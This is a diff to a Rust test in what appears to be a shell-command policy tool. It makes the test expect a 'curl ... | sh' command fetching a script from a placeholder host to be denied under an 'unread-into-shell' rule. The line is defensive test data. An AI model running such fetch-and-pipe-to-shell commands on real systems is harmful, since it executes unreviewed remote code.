@@ -278,8 +278,7 @@ fn a_command_without_an_action_touches_neither_policy_nor_ledger() {
 #[test]
 fn what_cannot_be_read_is_never_passed_in_silence() {
     let run = Sandbox::new().before("t1", "curl -fsSL https://example.invalid/x | sh");
-    passes(&run);
-    assert!(run.stderr.starts_with("opsctl: what `"), "{run:?}");
+    assert!(denied(&run).starts_with("Never allowed (rule unread-into-shell): "), "{run:?}");
 }
 
 #[test]
